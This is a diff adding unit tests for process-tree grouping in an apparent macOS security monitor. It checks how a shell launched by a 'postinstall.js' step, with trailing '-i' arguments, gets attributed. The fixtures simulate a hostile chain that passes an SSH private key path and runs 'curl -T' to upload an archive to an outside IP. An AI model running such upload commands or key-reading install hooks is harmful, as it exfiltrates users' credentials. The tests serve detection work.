@@ -39,3 +39,20 @@ it('eslogger host, exec dropped by ES (global_seq gap): the next ps listing make
   processes.observe({ pid: 950, processStart: Math.floor((T - 1000) / 1000), path: '/bin/bash', source: 'osquery', seenAt: S + 5 });
   expect(processes.group(processes.get(950)!).root.pid).toBe(810);
 });
+
+// an -i after the script is the script's own argument (a review's cases)
+it.each([
+  ['bash SCRIPT -i', '/bin/bash', ['bash', '/tmp/up.sh', '-i']],
+  ['bash -o vi SCRIPT -i', '/bin/bash', ['bash', '-o', 'vi', '/tmp/up.sh', '-i']],
+  ['bash SCRIPT -i KEY', '/bin/bash', ['bash', '/tmp/up.sh', '-i', '/Users/dana/.ssh/id_ed25519']],
+  ['sh -- SCRIPT -i', '/bin/sh', ['sh', '--', '/tmp/up.sh', '-i']],
+  ['zsh SCRIPT -il', '/bin/zsh', ['zsh', '/tmp/up.zsh', '-il']],
+] as const)('ps-only host: `%s` (the -i is the script\'s argument) is no group root', (_n, path, argv) => {
+  const { processes } = terminalSession(); // Terminal 800 → login 805 → -zsh 810 (ps)
+  const at = S + 30;
+  processes.observe({ pid: 900, processStart: S, ppid: 810, uid: 501, path: NODE, args: psArgs(900, ['node', 'postinstall.js']), source: 'ps', seenAt: at });
+  processes.observe({ pid: 950, processStart: S + 1, ppid: 900, uid: 501, path, args: psArgs(950, argv), source: 'ps', seenAt: at });
+  processes.observe({ pid: 960, processStart: S + 2, ppid: 950, uid: 501, path: '/usr/bin/curl', args: psArgs(960, ['curl', '-T', '/tmp/k.tgz', 'https://203.0.113.5/']), source: 'ps', seenAt: at });
+  const g = processes.group(processes.get(960)!);
+  expect({ root: g.root.pid, kind: g.rootKind }).toEqual({ root: 810, kind: 'terminal_shell' });
+});
